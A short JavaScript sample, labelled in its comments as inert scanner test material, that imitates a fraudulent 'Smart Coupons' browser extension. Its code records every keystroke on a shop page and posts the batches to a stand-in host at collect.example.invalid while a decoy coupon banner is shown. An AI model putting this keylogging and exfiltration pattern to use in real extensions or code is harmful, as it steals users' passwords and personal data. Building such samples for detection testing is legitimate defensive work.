// INERT SAMPLE, written to be found by a scanner. It shows how a fraudulent coupon extension would log
// what is typed on a shop's pages. The address below ends in .invalid, which no resolver answers: not a
// byte leaves the browser.
"use strict";

const collector = "https://collect.example.invalid/keys";
let typed = "";

document.addEventListener("keydown", (event) => {
  typed += event.key;
  if (typed.length < 40) {
    return;
  }
  fetch(collector, { method: "POST", body: typed }).catch(() => {});
  typed = "";
});

// What the user is shown.
const banner = document.createElement("div");
banner.textContent = "Smart Coupons is looking for coupons …";
document.body.append(banner);
